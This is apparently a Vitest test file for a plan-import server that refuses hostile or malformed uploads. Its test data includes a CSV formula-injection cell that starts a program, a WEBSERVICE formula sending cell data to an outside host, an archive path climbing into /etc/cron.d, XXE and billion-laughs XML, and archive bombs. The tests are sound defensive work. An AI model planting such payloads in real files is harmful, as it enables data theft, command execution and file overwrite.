import { expect, test } from 'vitest';
import { FileRefusal, RefusalCode } from '../../server/plan-import/file-refusal.ts';
import type { RefusalDetails } from '../../server/plan-import/file-refusal.ts';
import { readSourceFile } from '../../server/plan-import/read/read-file.ts';
import { understandPlan } from '../../server/plan-import/understand/understand-plan.ts';
import { buildCsv } from './build/csv-file.ts';
import { buildDocx } from './build/docx-file.ts';
import * as hostile from './build/hostile-files.ts';

async function refusalOf(
  bytes: Uint8Array,
  fileName: string,
): Promise<{ code: RefusalCode; details: RefusalDetails } | null> {
  try {
    understandPlan(await readSourceFile(bytes, fileName));
    return null;
  } catch (error) {
    if (!(error instanceof FileRefusal)) throw error;
    return { code: error.code, details: error.details };
  }
}

const text = (content: string): Uint8Array => Buffer.from(content, 'utf8');

const REFUSED: [string, () => Uint8Array, string, RefusalCode, RefusalDetails][] = [
  ['an empty file', () => new Uint8Array(), 'plan.csv', RefusalCode.FILE_EMPTY, {}],
  ['a file of blanks', () => text(' \r\n \t\n'), 'plan.csv', RefusalCode.FILE_EMPTY, {}],
  [
    'a file over the limit',
    () => Buffer.alloc(17 * 1024 * 1024, 'x'),
    'plan.csv',
    RefusalCode.FILE_TOO_LARGE,
    { sizeBytes: 17 * 1024 * 1024 },
  ],
  ['a PDF', () => text('%PDF-1.7 …'), 'plan.pdf', RefusalCode.FORMAT_UNKNOWN, { detected: 'PDF' }],
  [
    'a PDF called .xlsx',
    () => text('%PDF-1.7 …'),
    'plan.xlsx',
    RefusalCode.FORMAT_MISLABELLED,
    { named: 'XLSX', detected: 'PDF' },
  ],
  [
    'a web page called .xls',
    () => text('<html><table></table></html>'),
    'plan.xls',
    RefusalCode.FORMAT_MISLABELLED,
    { named: 'XLS', detected: 'HTML' },
  ],
  [
    'a CSV called .xlsx',
    () => text('Мярка;Срок\nа;б'),
    'plan.xlsx',
    RefusalCode.FORMAT_MISLABELLED,
    { named: 'XLSX', detected: 'CSV' },
  ],
  [
    'a document called .xlsx',
    () => buildDocx([{ rows: [['Мярка', 'Срок', 'Сума']] }]),
    'plan.xlsx',
    RefusalCode.FORMAT_MISLABELLED,
    { named: 'XLSX', detected: 'DOCX' },
  ],
  [
    'a workbook called .csv',
    () => hostile.plainWorkbook(),
    'plan.csv',
    RefusalCode.FORMAT_MISLABELLED,
    { named: 'CSV', detected: 'XLSX' },
  ],
  [
    'a picture',
    () => new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a]),
    'plan.png',
    RefusalCode.FORMAT_UNKNOWN,
    { detected: 'IMAGE' },
  ],
  [
    'bytes of no format',
    () => new Uint8Array([1, 2, 3, 0, 0, 0, 250, 7, 8, 0, 9]),
    'plan.csv',
    RefusalCode.FORMAT_MISLABELLED,
    { named: 'CSV', detected: 'BINARY' },
  ],
  ['another archive', hostile.otherArchive, 'plan.zip', RefusalCode.FORMAT_UNKNOWN, { detected: 'ZIP' }],
  [
    'an .xls of before 2007',
    () => hostile.oleWith('Workbook'),
    'plan.xls',
    RefusalCode.FORMAT_LEGACY,
    { detected: 'XLS' },
  ],
  [
    'a .doc of before 2007',
    () => hostile.oleWith('WordDocument'),
    'plan.doc',
    RefusalCode.FORMAT_LEGACY,
    { detected: 'DOC' },
  ],
  [
    'an .xls called .xlsx',
    () => hostile.oleWith('Workbook'),
    'plan.xlsx',
    RefusalCode.FORMAT_MISLABELLED,
    { named: 'XLSX', detected: 'XLS' },
  ],
  ['a workbook locked with a password', hostile.encryptedOffice, 'plan.xlsx', RefusalCode.FILE_ENCRYPTED, {}],
  [
    'a workbook with macros',
    hostile.withMacros,
    'plan.xlsm',
    RefusalCode.FILE_HAS_MACROS,
    { part: 'xl/vbaProject.bin' },
  ],
  ['half an archive', hostile.truncated, 'plan.xlsx', RefusalCode.FILE_BROKEN, {}],
  ['broken XML', hostile.brokenXml, 'plan.xlsx', RefusalCode.FILE_BROKEN, { part: 'xl/worksheets/sheet1.xml' }],
  [
    'a quotation mark that never closes',
    () => text('"Мярка;Срок\nа;б\n'),
    'plan.csv',
    RefusalCode.FILE_BROKEN,
    { part: 'CSV' },
  ],
  ['an archive bomb', hostile.archiveBomb, 'plan.xlsx', RefusalCode.ARCHIVE_BOMB, { part: 'xl/media/image1.bin' }],
  [
    'an archive that hides its size',
    hostile.lyingArchive,
    'plan.xlsx',
    RefusalCode.ARCHIVE_BOMB,
    { part: 'xl/worksheets/sheet1.xml' },
  ],
  [
    'an archive of thousands of parts',
    hostile.manyParts,
    'plan.xlsx',
    RefusalCode.ARCHIVE_TOO_MANY_ENTRIES,
    { limit: 2000 },
  ],
  [
    'a name that climbs out of the archive',
    hostile.climbingName,
    'plan.xlsx',
    RefusalCode.ARCHIVE_UNSAFE_NAME,
    { part: '../../etc/cron.d/job' },
  ],
  ['an external entity', hostile.doctype, 'plan.docx', RefusalCode.XML_DOCTYPE, { part: 'word/document.xml' }],
  ['entities within entities', hostile.billionLaughs, 'plan.xlsx', RefusalCode.XML_DOCTYPE, {}],
  ['tables within tables', () => hostile.nestedTables(12), 'plan.docx', RefusalCode.NESTED_TOO_DEEP, { limit: 4 }],
  [
    'elements within elements',
    () => hostile.nestedElements(5_000),
    'plan.docx',
    RefusalCode.NESTED_TOO_DEEP,
    { limit: 200 },
  ],
  [
    '500,000 rows',
    () => hostile.rowsOf(500_000),
    'plan.xlsx',
    RefusalCode.TOO_MANY_ROWS,
    { table: 'План', row: 10_001 },
  ],
  ['500,000 lines', () => text('Мярка;Срок\n'.repeat(500_000)), 'plan.csv', RefusalCode.TOO_MANY_ROWS, { row: 10_001 }],
  ['one cell at the far end', hostile.farCell, 'plan.xlsx', RefusalCode.TOO_MANY_ROWS, { row: 1048576 }],
  ['hundreds of columns', hostile.wideRow, 'plan.xlsx', RefusalCode.TOO_MANY_COLUMNS, { column: 257 }],
  ['a cell as long as a book', hostile.longCell, 'plan.docx', RefusalCode.CELL_TOO_LONG, {}],
  [
    'a formula that calls the network',
    () => hostile.withFormula('WEBSERVICE("http://example.org/?"&A1)'),
    'plan.xlsx',
    RefusalCode.FORMULA_REACHES_OUT,
    { table: 'План', row: 2, column: 4 },
  ],
  [
    'a formula into another file',
    () => hostile.withFormula("'[1]Лист1'!A1"),
    'plan.xlsx',
    RefusalCode.FORMULA_REACHES_OUT,
    {},
  ],
  [
    'a formula that starts a program',
    () => text("Мярка;Отговорник;Срок\n=cmd|' /C calc'!A0;Община;2026\n"),
    'plan.csv',
    RefusalCode.FORMULA_REACHES_OUT,
    { row: 2, column: 1 },
  ],
  [
    'a document without a table',
    () => buildDocx(['Само текст.']),
    'plan.docx',
    RefusalCode.NO_TABLE,
    { format: 'DOCX' },
  ],
  ['text in one column', () => text('ред\nвтори ред\n'), 'plan.csv', RefusalCode.NO_TABLE, { format: 'CSV' }],
  [
    'a table of something else',
    () =>
      buildCsv(
        [
          ['Име', 'Клас', 'Оценка'],
          ['Х', '7', '5'],
        ],
        { delimiter: ';', encoding: 'utf-8' },
      ),
    'plan.csv',
    RefusalCode.NO_PLAN_TABLE,
    { tables: 1 },
  ],
];

test.each(REFUSED)('%s is refused with its reason', async (...refused) => {
  const [, build, fileName, code, details] = refused;
  const refusal = await refusalOf(build(), fileName);
  expect(refusal?.code).toBe(code);
  expect(refusal?.details).toMatchObject(details);
});

test('a cell merged over the whole sheet costs nothing', async () => {
  const plan = understandPlan(await readSourceFile(hostile.farMerge(), 'plan.xlsx'));
  expect(plan.measures.map((measure) => measure.wording)).toEqual(['Ремонт']);
});

test('other formulas in a CSV keep their row out', async () => {
  const plan = understandPlan(
    await readSourceFile(text('Мярка;Отговорник;Срок\n=SUM(1+1);Община Дъбрава;2026\n'), 'plan.csv'),
  );
  expect(plan.rows[1]).toMatchObject({ status: 'REFUSED' });
  expect(plan.rows[1]?.issues.map((issue) => issue.code)).toContain('FORMULA_IN_TEXT');
});
